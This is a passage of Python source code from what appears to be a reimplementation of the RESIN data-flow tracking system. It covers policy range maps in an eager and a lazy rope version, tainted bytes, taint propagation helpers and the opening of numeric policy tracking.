        return f"PolicyRange({self.start}, {self.stop}, {self.policies!r})"

    def shifted(self, delta: int) -> "PolicyRange":
        return PolicyRange(self.start + delta, self.stop + delta, self.policies)


# Lazy node tags.  A deferred map's ``_node`` is one of:
#   (_CAT, (child, child, ...))      concatenation of child maps, in order
#   (_SLICE, base, lo, hi)           the window [lo, hi) of ``base``, shifted
#   (_REPEAT, base, count)           ``count`` copies of ``base``
_CAT = 0
_SLICE = 1
_REPEAT = 2


def _first_overlap(ranges: Tuple[PolicyRange, ...], lo: int) -> int:
    """Index of the first range ending after position ``lo`` (binary search;
    normalized ranges are sorted and disjoint, so stops are increasing)."""
    low, high = 0, len(ranges)
    while low < high:
        mid = (low + high) // 2
        if ranges[mid].stop <= lo:
            low = mid + 1
        else:
            high = mid
    return low


def _emit(
    out: List[PolicyRange],
    ranges: Tuple[PolicyRange, ...],
    lo: int,
    hi: int,
    shift: int,
) -> None:
    """Append the sub-ranges of normalized ``ranges`` overlapping ``[lo, hi)``
    to ``out``, shifted by ``shift``, coalescing at the junction.  Ranges that
    land unclipped and unshifted are reused, not copied."""
    for index in range(_first_overlap(ranges, lo), len(ranges)):
        rng = ranges[index]
        if rng.start >= hi:
            break
        start = max(rng.start, lo) + shift
        stop = min(rng.stop, hi) + shift
        policies = rng.policies
        if out:
            last = out[-1]
            if last.stop == start and last.policies == policies:
                out[-1] = PolicyRange(last.start, stop, policies)
                continue
        if start == rng.start and stop == rng.stop:
            out.append(rng)
        else:
            out.append(PolicyRange(start, stop, policies))


def _sliced_ranges(
    ranges: Tuple[PolicyRange, ...], lo: int, hi: int
) -> List[PolicyRange]:
    """The sub-ranges of normalized ``ranges`` overlapping ``[lo, hi)``,
    clamped and shifted to start at 0.  The result is itself normalized."""
    out: List[PolicyRange] = []
    for rng in ranges:
        if rng.stop <= lo:
            continue
        if rng.start >= hi:
            break
        out.append(
            PolicyRange(max(rng.start, lo) - lo, min(rng.stop, hi) - lo, rng.policies)
        )
    return out


class RangeMap:
    """Maps character positions of a string of length ``length`` to policy
    sets.

    Positions not covered by any range have the empty policy set.  The map is
    immutable: every operation returns a new map.  ``concat``, step-1
    ``slice``, and ``repeat`` return lazy rope nodes; every inspecting
    operation flattens (once, cached) first.
    """

    __slots__ = ("length", "_ranges", "_node", "_empty")

    def __init__(self, length: int, ranges: Iterable[PolicyRange] = ()):
        if length < 0:
            raise ValueError("length must be non-negative")
        self.length = length
        self._ranges: Optional[Tuple[PolicyRange, ...]] = self._normalize(
            length, ranges
        )
        self._node = None
        self._empty: Optional[bool] = not self._ranges

    # -- construction -------------------------------------------------------

    @classmethod
    def empty(cls, length: int) -> "RangeMap":
        return cls(length)

    @classmethod
    def uniform(cls, length: int, policies) -> "RangeMap":
        """A map in which every position carries ``policies``."""
        pset = as_policyset(policies)
        if length == 0 or not pset:
            return cls(length)
        return cls(length, [PolicyRange(0, length, pset)])

    @classmethod
    def _deferred(cls, length: int, node, empty: Optional[bool]) -> "RangeMap":
        """A lazy rope node (internal).  ``empty`` is the emptiness hint:
        True/False when known from the children, None when only flattening
        can tell."""
        self = cls.__new__(cls)
        self.length = length
        self._ranges = None
        self._node = node
        self._empty = empty
        return self

    @classmethod
    def _trusted(cls, length: int, ranges: Tuple[PolicyRange, ...]) -> "RangeMap":
        """An eager map from ranges already known to satisfy the
        normalization invariants (internal)."""
        self = cls.__new__(cls)
        self.length = length
        self._ranges = ranges
        self._node = None
        self._empty = not ranges
        return self

    @staticmethod
    def _normalize(
        length: int, ranges: Iterable[PolicyRange]
    ) -> Tuple[PolicyRange, ...]:
        # Clamp to [0, length), drop empty ranges and empty policy sets,
        # split overlaps by recomputing per-boundary segments, and coalesce
        # adjacent equal segments.
        clamped: List[PolicyRange] = []
        for rng in ranges:
            start = max(0, rng.start)
            stop = min(length, rng.stop)
            if stop > start and rng.policies:
                clamped.append(PolicyRange(start, stop, rng.policies))
        if not clamped:
            return ()

        boundaries = sorted({r.start for r in clamped} | {r.stop for r in clamped})
        segments: List[PolicyRange] = []
        for lo, hi in zip(boundaries, boundaries[1:]):
            policies: PolicySet = PolicySet.empty()
            for rng in clamped:
                if rng.start <= lo and hi <= rng.stop:
                    policies = policies.union(rng.policies)
            if policies:
                segments.append(PolicyRange(lo, hi, policies))

        coalesced: List[PolicyRange] = []
        for seg in segments:
            if (
                coalesced
                and coalesced[-1].stop == seg.start
                and coalesced[-1].policies == seg.policies
            ):
                coalesced[-1] = PolicyRange(
                    coalesced[-1].start, seg.stop, seg.policies
                )
            else:
                coalesced.append(seg)
        return tuple(coalesced)

    # -- lazy flattening -----------------------------------------------------

    def _materialize(self) -> Tuple[PolicyRange, ...]:
        """Flatten the rope into the normalized range tuple (cached).

        One iterative pass: work items are ``(map, lo, hi, shift)`` windows
        ("emit this map's ranges within [lo, hi), shifted by shift"), pushed
        in reverse so the output stays ordered.  Intermediate rope nodes are
        traversed, never materialized, so flattening an n-piece concat chain
        emits each leaf range exactly once — O(total ranges), not O(n²) —
        and no rope depth can recurse past the explicit stack.
        """
        ranges = self._ranges
        if ranges is not None:
            return ranges
        out: List[PolicyRange] = []
        stack = [(self, 0, self.length, 0)]
        while stack:
            current, lo, hi, shift = stack.pop()
            leaf_ranges = current._ranges
            if leaf_ranges is not None:
                _emit(out, leaf_ranges, lo, hi, shift)
                continue
            node = current._node
            tag = node[0]
            if tag == _CAT:
                items = []
                offset = 0
                for child in node[1]:
                    clo = max(lo, offset)
                    chi = min(hi, offset + child.length)
                    if clo < chi:
                        items.append((child, clo - offset, chi - offset, shift + offset))
                    offset += child.length
                stack.extend(reversed(items))
            elif tag == _SLICE:
                base = node[1]
                stack.append((base, node[2] + lo, node[2] + hi, shift - node[2]))
            else:  # _REPEAT
                base, count = node[1], node[2]
                size = base.length
                items = []
                for index in range(count):
                    offset = index * size
                    clo = max(lo, offset)
                    chi = min(hi, offset + size)
                    if clo < chi:
                        items.append((base, clo - offset, chi - offset, shift + offset))
                stack.extend(reversed(items))
        result = tuple(out)
        # Publish the ranges before dropping the node, so a concurrent
        # reader never sees neither.
        self._ranges = result
        self._empty = not result
        self._node = None
        return result

    # -- queries -------------------------------------------------------------

    @property
    def ranges(self) -> Tuple[PolicyRange, ...]:
        return self._materialize()

    def is_empty(self) -> bool:
        """True if no position carries any policy."""
        empty = self._empty
        if empty is None:
            empty = not self._materialize()
        return empty

    def is_materialized(self) -> bool:
        """True once the rope has been flattened (or was built eagerly)."""
        return self._ranges is not None

    def policies_at(self, index: int) -> PolicySet:
        """Policy set at character position ``index``."""
        if index < 0:
            index += self.length
        if not 0 <= index < self.length:
            raise IndexError("position out of range")
        for rng in self._materialize():
            if rng.start <= index < rng.stop:
                return rng.policies
        return PolicySet.empty()

    def all_policies(self) -> PolicySet:
        """Union of the policies of every position."""
        result = PolicySet.empty()
        for rng in self._materialize():
            result = result.union(rng.policies)
        return result

    def covered(self) -> int:
        """Number of positions carrying at least one policy."""
        return sum(len(rng) for rng in self._materialize())

    def positions_with(self, policy_type) -> Iterator[int]:
        """Yield every position whose policy set contains an instance of
        ``policy_type``."""
        for rng in self._materialize():
            if rng.policies.has_type(policy_type):
                yield from range(rng.start, rng.stop)

    def every_position_has(self, policy_type) -> bool:
        """True if every position (of a non-empty string) carries a policy of
        ``policy_type``."""
        if self.length == 0:
            return True
        covered = 0
        for rng in self._materialize():
            if rng.policies.has_type(policy_type):
                covered += len(rng)
        return covered == self.length

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, RangeMap):
            return NotImplemented
        return (
            self.length == other.length
            and self._materialize() == other._materialize()
        )

    def __repr__(self) -> str:
        return f"RangeMap(length={self.length}, ranges={list(self._materialize())!r})"

    # -- transformations ------------------------------------------------------

    def slice(self, start: int, stop: int, step: int = 1) -> "RangeMap":
        """Range map for ``s[start:stop:step]`` of a string with this map.

        ``start``, ``stop`` and ``step`` must already be resolved the way
        ``slice.indices(len(s))`` resolves them (the tainted value types do
        this before calling); resolving them again here would mangle the
        sentinel values CPython uses for empty negative-step slices.
        """
        if step == 0:
            raise ValueError("slice step cannot be zero")
        if step == 1:
            new_length = max(0, stop - start)
            lo = max(0, min(start, self.length))
            hi = max(lo, min(stop, self.length))
            if new_length == 0:
                return RangeMap(0)
            if lo == 0 and hi == self.length and new_length == self.length:
                return self
            target: RangeMap = self
            if new_length == hi - lo:
                # Walk the rope toward the child that contains the window,
                # composing offset views instead of stacking them.
                while target._ranges is None:
                    node = target._node
                    if node[0] == _SLICE and target.length == node[3] - node[2]:
                        lo += node[2]
                        hi += node[2]
                        target = node[1]
                        continue
                    if node[0] == _CAT:
                        offset = 0
                        descended = False
                        for child in node[1]:
                            if lo >= offset and hi <= offset + child.length:
                                lo -= offset
                                hi -= offset
                                target = child
                                descended = True
                                break
                            offset += child.length
                        if descended:
                            if lo == 0 and hi == target.length:
                                return target
                            continue
                    break
            if target._ranges is not None:
                return RangeMap._trusted(
                    new_length, tuple(_sliced_ranges(target._ranges, lo, hi))
                )
            if target._empty is True:
                return RangeMap(new_length)
            return RangeMap._deferred(new_length, (_SLICE, target, lo, hi), None)
        positions = range(start, stop, step)
        new_length = len(positions)
        ranges = []
        for new_index, old_index in enumerate(positions):
            if not 0 <= old_index < self.length:
                continue
            pset = self.policies_at(old_index)
            if pset:
                ranges.append(PolicyRange(new_index, new_index + 1, pset))
        return RangeMap(new_length, ranges)

    def concat(self, other: "RangeMap") -> "RangeMap":
        """Range map for the concatenation of two strings (O(1): a rope
        node sharing both operands)."""
        if self.length == 0:
            return other
        if other.length == 0:
            return self
        if self._empty is True and other._empty is True:
            return RangeMap(self.length + other.length)
        if self._empty is False or other._empty is False:
            empty: Optional[bool] = False
        else:
            empty = None
        return RangeMap._deferred(
            self.length + other.length, (_CAT, (self, other)), empty
        )

    @classmethod
    def concat_many(cls, maps: Iterable["RangeMap"]) -> "RangeMap":
        """Range map for the concatenation of several strings — one rope
        node over all the pieces, however many there are."""
        children = [m for m in maps if m.length]
        if not children:
            return cls(0)
        if len(children) == 1:
            return children[0]
        total = sum(m.length for m in children)
        if all(m._empty is True for m in children):
            return cls(total)
        if any(m._empty is False for m in children):
            empty: Optional[bool] = False
        else:
            empty = None
        return cls._deferred(total, (_CAT, tuple(children)), empty)

    def repeat(self, count: int) -> "RangeMap":
        """Range map for ``s * count``."""
        if count <= 0 or self.length == 0:
            return RangeMap(0)
        if count == 1:
            return self
        if self._empty is True:
            return RangeMap(self.length * count)
        return RangeMap._deferred(
            self.length * count, (_REPEAT, self, count), self._empty
        )

    def add_policy(
        self, policy: Policy, start: int = 0, stop: Optional[int] = None
    ) -> "RangeMap":
        """Attach ``policy`` to positions ``[start, stop)`` (whole string by
        default)."""
        if stop is None:
            stop = self.length
        new_range = PolicyRange(
            max(0, start), min(self.length, stop), PolicySet.of(policy)
        )
        if len(new_range) == 0:
            return self
        return RangeMap(self.length, list(self._materialize()) + [new_range])

    def remove_policy(self, policy: Policy) -> "RangeMap":
        """Remove ``policy`` from every position."""
        return RangeMap(
            self.length,
            [
                PolicyRange(r.start, r.stop, r.policies.remove(policy))
                for r in self._materialize()
            ],
        )

    def remove_policy_type(self, policy_type) -> "RangeMap":
        """Remove every policy of ``policy_type`` from every position."""
        return RangeMap(
            self.length,
            [
                PolicyRange(r.start, r.stop, r.policies.without_type(policy_type))
                for r in self._materialize()
            ],
        )

    def with_length(self, length: int) -> "RangeMap":
        """Clamp or extend the map to a new string length.

        New positions (if any) carry no policy; positions beyond ``length``
        are dropped.  Used by transformations that change string length in
        ways we cannot track per-character (rare unicode case mappings)."""
        return RangeMap(length, self._materialize())

    def spread(self, length: int) -> "RangeMap":
        """Apply the union of all policies to every position of a string of
        ``length`` characters.  Used as the conservative fallback for
        operations whose per-character mapping is unknown."""
        return RangeMap.uniform(length, self.all_policies())

    # -- (de)serialization helpers --------------------------------------------

    def to_segments(self) -> List[Tuple[int, int, List[Policy]]]:
        """Plain-data view of the map, for persistence."""
        return [(r.start, r.stop, list(r.policies)) for r in self._materialize()]

    @classmethod
    def from_segments(
        cls,
        length: int,
        segments: Iterable[Tuple[int, int, Iterable[Policy]]],
    ) -> "RangeMap":
        return cls(
            length,
            [
                PolicyRange(start, stop, as_policyset(policies))
                for start, stop, policies in segments
            ],
        )
