"""Character-range policy maps.

RESIN tracks policies at character granularity (Section 3.4): concatenating a
string annotated with policy ``p1`` and one annotated with ``p2`` yields a
string whose first characters carry only ``p1`` and whose last characters
carry only ``p2``.  :class:`RangeMap` is the data structure behind that: an
ordered list of half-open ``[start, stop)`` ranges, each mapping to a
:class:`~repro.core.policyset.PolicySet`.  Ranges never overlap, are always
sorted, and adjacent ranges with equal policy sets are coalesced.
"""

from __future__ import annotations

from typing import Iterable, Iterator, List, Optional, Tuple

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset


class PolicyRange:
    """A half-open character range ``[start, stop)`` carrying a policy set."""

    __slots__ = ("start", "stop", "policies")

    def __init__(self, start: int, stop: int, policies: PolicySet):
        if start < 0 or stop < start:
            raise ValueError(f"invalid range [{start}, {stop})")
        self.start = start
        self.stop = stop
        self.policies = as_policyset(policies)

    def __len__(self) -> int:
        return self.stop - self.start

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, PolicyRange):
            return NotImplemented
        return (self.start == other.start and self.stop == other.stop
                and self.policies == other.policies)

    def __repr__(self) -> str:
        return f"PolicyRange({self.start}, {self.stop}, {self.policies!r})"

    def shifted(self, delta: int) -> "PolicyRange":
        return PolicyRange(self.start + delta, self.stop + delta,
                           self.policies)


class RangeMap:
    """Maps character positions of a string of length ``length`` to policy
    sets.

    Positions not covered by any range have the empty policy set.  The map is
    immutable: every operation returns a new map.
    """

    __slots__ = ("length", "_ranges")

    def __init__(self, length: int,
                 ranges: Iterable[PolicyRange] = ()):
        if length < 0:
            raise ValueError("length must be non-negative")
        self.length = length
        self._ranges: Tuple[PolicyRange, ...] = self._normalize(length, ranges)

    # -- construction -------------------------------------------------------

    @classmethod
    def empty(cls, length: int) -> "RangeMap":
        return cls(length)

    @classmethod
    def uniform(cls, length: int, policies) -> "RangeMap":
        """A map in which every position carries ``policies``."""
        pset = as_policyset(policies)
        if length == 0 or not pset:
            return cls(length)
        return cls(length, [PolicyRange(0, length, pset)])

    @staticmethod
    def _normalize(length: int,
                   ranges: Iterable[PolicyRange]) -> Tuple[PolicyRange, ...]:
        # Clamp to [0, length), drop empty ranges and empty policy sets,
        # split overlaps by recomputing per-boundary segments, and coalesce
        # adjacent equal segments.
        clamped: List[PolicyRange] = []
        for rng in ranges:
            start = max(0, rng.start)
            stop = min(length, rng.stop)
            if stop > start and rng.policies:
                clamped.append(PolicyRange(start, stop, rng.policies))
        if not clamped:
            return ()

        boundaries = sorted({r.start for r in clamped}
                            | {r.stop for r in clamped})
        segments: List[PolicyRange] = []
        for lo, hi in zip(boundaries, boundaries[1:]):
            policies: PolicySet = PolicySet.empty()
            for rng in clamped:
                if rng.start <= lo and hi <= rng.stop:
                    policies = policies.union(rng.policies)
            if policies:
                segments.append(PolicyRange(lo, hi, policies))

        coalesced: List[PolicyRange] = []
        for seg in segments:
            if (coalesced and coalesced[-1].stop == seg.start
                    and coalesced[-1].policies == seg.policies):
                coalesced[-1] = PolicyRange(
                    coalesced[-1].start, seg.stop, seg.policies)
            else:
                coalesced.append(seg)
        return tuple(coalesced)

    # -- queries -------------------------------------------------------------

    @property
    def ranges(self) -> Tuple[PolicyRange, ...]:
        return self._ranges

    def is_empty(self) -> bool:
        """True if no position carries any policy."""
        return not self._ranges

    def policies_at(self, index: int) -> PolicySet:
        """Policy set at character position ``index``."""
        if index < 0:
            index += self.length
        if not 0 <= index < self.length:
            raise IndexError("position out of range")
        for rng in self._ranges:
            if rng.start <= index < rng.stop:
                return rng.policies
        return PolicySet.empty()

    def all_policies(self) -> PolicySet:
        """Union of the policies of every position."""
        result = PolicySet.empty()
        for rng in self._ranges:
            result = result.union(rng.policies)
        return result

    def covered(self) -> int:
        """Number of positions carrying at least one policy."""
        return sum(len(rng) for rng in self._ranges)

    def positions_with(self, policy_type) -> Iterator[int]:
        """Yield every position whose policy set contains an instance of
        ``policy_type``."""
        for rng in self._ranges:
            if rng.policies.has_type(policy_type):
                yield from range(rng.start, rng.stop)

    def every_position_has(self, policy_type) -> bool:
        """True if every position (of a non-empty string) carries a policy of
        ``policy_type``."""
        if self.length == 0:
            return True
        covered = 0
        for rng in self._ranges:
            if rng.policies.has_type(policy_type):
                covered += len(rng)
        return covered == self.length

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, RangeMap):
            return NotImplemented
        return self.length == other.length and self._ranges == other._ranges

    def __repr__(self) -> str:
        return f"RangeMap(length={self.length}, ranges={list(self._ranges)!r})"

    # -- transformations ------------------------------------------------------

    def slice(self, start: int, stop: int, step: int = 1) -> "RangeMap":
        """Range map for ``s[start:stop:step]`` of a string with this map.

        ``start``, ``stop`` and ``step`` must already be resolved the way
        ``slice.indices(len(s))`` resolves them (the tainted value types do
        this before calling); resolving them again here would mangle the
        sentinel values CPython uses for empty negative-step slices.
        """
        if step == 0:
            raise ValueError("slice step cannot be zero")
        positions = range(start, stop, step)
        new_length = len(positions)
        if step == 1:
            lo = max(0, min(start, self.length))
            hi = max(lo, min(stop, self.length))
            shifted = [PolicyRange(max(r.start, lo) - lo,
                                   min(r.stop, hi) - lo,
                                   r.policies)
                       for r in self._ranges
                       if r.stop > lo and r.start < hi]
            return RangeMap(new_length, shifted)
        ranges = []
        for new_index, old_index in enumerate(positions):
            if not 0 <= old_index < self.length:
                continue
            pset = self.policies_at(old_index)
            if pset:
                ranges.append(PolicyRange(new_index, new_index + 1, pset))
        return RangeMap(new_length, ranges)

    def concat(self, other: "RangeMap") -> "RangeMap":
        """Range map for the concatenation of two strings."""
        shifted = [r.shifted(self.length) for r in other._ranges]
        return RangeMap(self.length + other.length,
                        list(self._ranges) + shifted)

    def repeat(self, count: int) -> "RangeMap":
        """Range map for ``s * count``."""
        if count <= 0:
            return RangeMap(0)
        result = self
        for _ in range(count - 1):
            result = result.concat(self)
        return result

    def add_policy(self, policy: Policy,
                   start: int = 0, stop: Optional[int] = None) -> "RangeMap":
        """Attach ``policy`` to positions ``[start, stop)`` (whole string by
        default)."""
        if stop is None:
            stop = self.length
        new_range = PolicyRange(max(0, start), min(self.length, stop),
                                PolicySet.of(policy))
        if len(new_range) == 0:
            return self
        return RangeMap(self.length, list(self._ranges) + [new_range])

    def remove_policy(self, policy: Policy) -> "RangeMap":
        """Remove ``policy`` from every position."""
        return RangeMap(self.length, [
            PolicyRange(r.start, r.stop, r.policies.remove(policy))
            for r in self._ranges])

    def remove_policy_type(self, policy_type) -> "RangeMap":
        """Remove every policy of ``policy_type`` from every position."""
        return RangeMap(self.length, [
            PolicyRange(r.start, r.stop, r.policies.without_type(policy_type))
            for r in self._ranges])

    def with_length(self, length: int) -> "RangeMap":
        """Clamp or extend the map to a new string length.

        New positions (if any) carry no policy; positions beyond ``length``
        are dropped.  Used by transformations that change string length in
        ways we cannot track per-character (rare unicode case mappings)."""
        return RangeMap(length, self._ranges)

    def spread(self, length: int) -> "RangeMap":
        """Apply the union of all policies to every position of a string of
        ``length`` characters.  Used as the conservative fallback for
        operations whose per-character mapping is unknown."""
        return RangeMap.uniform(length, self.all_policies())

    # -- (de)serialization helpers --------------------------------------------

    def to_segments(self) -> List[Tuple[int, int, List[Policy]]]:
        """Plain-data view of the map, for persistence."""
        return [(r.start, r.stop, list(r.policies)) for r in self._ranges]

    @classmethod
    def from_segments(cls, length: int,
                      segments: Iterable[Tuple[int, int, Iterable[Policy]]]
                      ) -> "RangeMap":
        return cls(length, [PolicyRange(start, stop, as_policyset(policies))
                            for start, stop, policies in segments])
