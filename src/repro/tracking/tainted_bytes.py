"""Byte-level policy tracking.

File and socket data is tracked at byte granularity (Section 3.4.1): a file's
policy map covers byte ranges, just as a string's covers character ranges.
:class:`TaintedBytes` mirrors :class:`~repro.tracking.tainted_str.TaintedStr`
for the operations the channels and filesystem substrates need.
"""

from __future__ import annotations

from typing import List, Optional

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset
from .ranges import PolicyRange, RangeMap

__all__ = ["TaintedBytes", "taint_bytes", "rangemap_of_bytes"]


def rangemap_of_bytes(value) -> RangeMap:
    if isinstance(value, TaintedBytes):
        return value.rangemap
    if isinstance(value, (bytes, bytearray)):
        return RangeMap.empty(len(value))
    raise TypeError(f"expected bytes, got {type(value).__name__}")


def taint_bytes(
    value: bytes, policies=None, rangemap: Optional[RangeMap] = None
) -> "TaintedBytes":
    if rangemap is None:
        rangemap = rangemap_of_bytes(value)
        for policy in as_policyset(policies):
            rangemap = rangemap.add_policy(policy)
    return TaintedBytes(value, rangemap)


class TaintedBytes(bytes):
    """A bytes object carrying per-byte policy sets."""

    def __new__(cls, value: bytes = b"", rangemap: Optional[RangeMap] = None):
        self = super().__new__(cls, value)
        if rangemap is None:
            if isinstance(value, TaintedBytes):
                rangemap = value.rangemap
            else:
                rangemap = RangeMap.empty(len(self))
        if rangemap.length != len(self):
            raise ValueError("rangemap length does not match bytes length")
        self._rangemap = rangemap
        return self

    # -- policy access ---------------------------------------------------------

    @property
    def rangemap(self) -> RangeMap:
        return self._rangemap

    def policies(self) -> PolicySet:
        return self._rangemap.all_policies()

    def policies_at(self, index: int) -> PolicySet:
        return self._rangemap.policies_at(index)

    def has_policy_type(self, policy_type, *, every_byte: bool = False) -> bool:
        if every_byte:
            return self._rangemap.every_position_has(policy_type)
        return self._rangemap.all_policies().has_type(policy_type)

    def with_policy(
        self, policy: Policy, start: int = 0, stop: Optional[int] = None
    ) -> "TaintedBytes":
        return TaintedBytes(bytes(self), self._rangemap.add_policy(policy, start, stop))

    def without_policy(self, policy: Policy) -> "TaintedBytes":
        return TaintedBytes(bytes(self), self._rangemap.remove_policy(policy))

    def without_policy_type(self, policy_type) -> "TaintedBytes":
        return TaintedBytes(bytes(self), self._rangemap.remove_policy_type(policy_type))

    def plain(self) -> bytes:
        return bytes(self)

    # -- operations ---------------------------------------------------------------

    def __add__(self, other):
        if not isinstance(other, (bytes, bytearray)):
            return NotImplemented
        raw = bytes.__add__(self, bytes(other))
        return TaintedBytes(raw, self._rangemap.concat(rangemap_of_bytes(other)))

    def __radd__(self, other):
        if not isinstance(other, (bytes, bytearray)):
            return NotImplemented
        raw = bytes(other) + bytes(self)
        return TaintedBytes(raw, rangemap_of_bytes(other).concat(self._rangemap))

    def __mul__(self, count):
        if not isinstance(count, int):
            return NotImplemented
        return TaintedBytes(bytes.__mul__(self, count), self._rangemap.repeat(count))

    __rmul__ = __mul__

    def __getitem__(self, key):
        raw = bytes.__getitem__(self, key)
        if isinstance(key, slice):
            start, stop, step = key.indices(len(self))
            return TaintedBytes(raw, self._rangemap.slice(start, stop, step))
        return raw  # single index returns an int, which carries no policy

    def slice_with_policies(self, start: int, stop: int) -> "TaintedBytes":
        """Explicit tainted slice (``b[i:j]`` already preserves policies;
        this spelling reads better in filter code)."""
        return self[start:stop]

    def decode(self, encoding: str = "utf-8", errors: str = "strict"):
        from .tainted_str import TaintedStr

        text = bytes.decode(self, encoding, errors)
        if self._rangemap.is_empty():
            return TaintedStr(text)
        # Map byte ranges to character ranges by decoding incrementally.
        segments: List[PolicyRange] = []
        char_index = 0
        byte_index = 0
        for char in text:
            encoded = char.encode(encoding, errors)
            pset = PolicySet.empty()
            for offset in range(len(encoded)):
                if byte_index + offset < len(self):
                    pset = pset.union(self._rangemap.policies_at(byte_index + offset))
            if pset:
                segments.append(PolicyRange(char_index, char_index + 1, pset))
            byte_index += len(encoded)
            char_index += 1
        return TaintedStr(text, RangeMap(len(text), segments))

    def join(self, iterable):
        items = [
            item if isinstance(item, TaintedBytes) else TaintedBytes(item)
            for item in iterable
        ]
        raw = bytes(self).join(bytes(item) for item in items)
        pieces: List[RangeMap] = []
        for index, item in enumerate(items):
            if index:
                pieces.append(self._rangemap)
            pieces.append(item.rangemap)
        return TaintedBytes(raw, RangeMap.concat_many(pieces))

    def split(self, sep=None, maxsplit: int = -1):
        parts = bytes.split(self, sep, maxsplit)
        located = []
        cursor = 0
        for part in parts:
            found = bytes.find(self, part, cursor) if part else cursor
            located.append(self[found : found + len(part)])
            cursor = found + len(part)
        return located

    def __repr__(self) -> str:
        return bytes.__repr__(self)

    def __reduce__(self):
        return (bytes, (bytes(self),))
