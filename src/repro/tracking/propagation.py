"""Taint propagation helpers.

Utility functions that application and substrate code use to keep policies
flowing across operations that plain Python would otherwise perform on
built-in types (losing the taint), e.g. f-string-style interpolation or
joining heterogeneous values.
"""

from __future__ import annotations

from typing import Any

from ..core.policyset import PolicySet, as_policyset
from .merge import merge_many
from .ranges import RangeMap
from .tainted_bytes import TaintedBytes
from .tainted_number import TaintedFloat, TaintedInt
from .tainted_str import TaintedStr

__all__ = [
    "policies_of",
    "to_tainted_str",
    "concat",
    "interpolate",
    "stringify",
    "merge_values",
    "spread_policies",
    "strip_policies",
]


def policies_of(value: Any) -> PolicySet:
    """Union of all policies carried by ``value`` (any type)."""
    if isinstance(value, TaintedStr):
        return value.policies()
    if isinstance(value, TaintedBytes):
        return value.policies()
    if isinstance(value, (TaintedInt, TaintedFloat)):
        return value.policies()
    if isinstance(value, (list, tuple, set, frozenset)):
        result = PolicySet.empty()
        for item in value:
            result = result.union(policies_of(item))
        return result
    if isinstance(value, dict):
        result = PolicySet.empty()
        for key, item in value.items():
            result = result.union(policies_of(key)).union(policies_of(item))
        return result
    return PolicySet.empty()


def to_tainted_str(value: Any) -> TaintedStr:
    """Convert ``value`` to a :class:`TaintedStr`, preserving policies."""
    if isinstance(value, TaintedStr):
        return value
    if isinstance(value, str):
        return TaintedStr(value)
    if isinstance(value, TaintedBytes):
        return value.decode("utf-8", "replace")
    text = str(value)
    policies = policies_of(value)
    return TaintedStr(text, RangeMap.uniform(len(text), policies))


def stringify(value: Any) -> TaintedStr:
    """Alias of :func:`to_tainted_str`, reads better at call sites that mirror
    PHP's implicit string conversion."""
    return to_tainted_str(value)


def concat(*values: Any) -> TaintedStr:
    """Concatenate values as strings, preserving character-level policies."""
    result = TaintedStr("")
    for value in values:
        result = result + to_tainted_str(value)
    return result


def interpolate(template: str, *args: Any, **kwargs: Any) -> TaintedStr:
    """Taint-preserving replacement for f-strings.

    ``interpolate("hello {name}", name=password)`` keeps the password policy
    on the interpolated characters only, like the paper's character-level
    tracking does for string concatenation.
    """
    return TaintedStr(template).format(*args, **kwargs)


def merge_values(*values: Any) -> PolicySet:
    """Merged policy set for a value computed from all of ``values`` in a way
    that cannot be tracked per character (checksums, hashes, aggregation)."""
    return merge_many(policies_of(value) for value in values)


def spread_policies(text: str, policies) -> TaintedStr:
    """Return ``text`` with ``policies`` applied to every character."""
    pset = as_policyset(policies)
    return TaintedStr(text, RangeMap.uniform(len(text), pset))


def strip_policies(value: Any) -> Any:
    """Return a plain (policy-free) copy of ``value``.

    This is deliberately explicit: only boundary code such as declassifying
    filter objects should ever call it.
    """
    if isinstance(value, TaintedStr):
        return value.plain()
    if isinstance(value, TaintedBytes):
        return value.plain()
    if isinstance(value, TaintedInt):
        return int(value)
    if isinstance(value, TaintedFloat):
        return float(value)
    if isinstance(value, list):
        return [strip_policies(v) for v in value]
    if isinstance(value, tuple):
        return tuple(strip_policies(v) for v in value)
    if isinstance(value, dict):
        return {strip_policies(k): strip_policies(v) for k, v in value.items()}
    return value
