"""Policy tracking for numbers.

Numbers cannot be tracked at character granularity, so combining two numbers
merges their policy sets via the policies' ``merge`` methods
(Section 3.4.2).  The paper notes that none of its data flow assertions ever
needed policies on integers; we still provide full support because the merge
protocol is part of the API (and Table 5 benchmarks integer addition with an
empty policy).
"""

from __future__ import annotations

from typing import Optional

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset
from .merge import merge_many

__all__ = [
    "TaintedInt",
    "TaintedFloat",
    "taint_int",
    "taint_float",
    "policies_of_number",
]


def policies_of_number(value) -> PolicySet:
    """Policy set of a numeric value (empty for plain numbers)."""
    if isinstance(value, (TaintedInt, TaintedFloat)):
        return value.policies()
    return PolicySet.empty()


def taint_int(value: int, policies=None) -> "TaintedInt":
    return TaintedInt(value, as_policyset(policies))


def taint_float(value: float, policies=None) -> "TaintedFloat":
    return TaintedFloat(value, as_policyset(policies))


def _operand_policies(operand) -> PolicySet:
    if isinstance(operand, str):
        from .tainted_str import policies_of_str

        return policies_of_str(operand)
    return policies_of_number(operand)


def _result_policies(*operands) -> PolicySet:
    """Merge the policy sets of all operands pairwise.

    ``merge_many`` streams through the interned-set fast paths, so the
    common all-empty and shared-provenance cases never run the per-policy
    merge protocol.
    """
    return merge_many(_operand_policies(operand) for operand in operands)


class _TaintedNumberMixin:
    """Shared policy plumbing for tainted numeric types."""

    _policyset: PolicySet

    def policies(self) -> PolicySet:
        return self._policyset

    def with_policy(self, policy: Policy):
        return type(self)(self._raw(), self._policyset.add(policy))

    def without_policy(self, policy: Policy):
        return type(self)(self._raw(), self._policyset.remove(policy))

    def has_policy_type(self, policy_type) -> bool:
        return self._policyset.has_type(policy_type)

    def _raw(self):
        raise NotImplementedError

    def _rewrap(self, value, *operands):
        """Wrap ``value`` (the raw result of an arithmetic op) with the
        merged policies of ``self`` and the other operands."""
        if value is NotImplemented:
            return NotImplemented
        policies = _result_policies(self, *operands)
        if isinstance(value, bool):
            return value  # comparisons and predicates stay plain
        if isinstance(value, int):
            return TaintedInt(value, policies) if policies else value
        if isinstance(value, float):
            return TaintedFloat(value, policies) if policies else value
        if isinstance(value, complex):
            return value
        return value


def _binary(name):
    int_op = getattr(int, name, None)
    float_op = getattr(float, name, None)

    def op(self, other):
        base_op = int_op if isinstance(self, int) else float_op
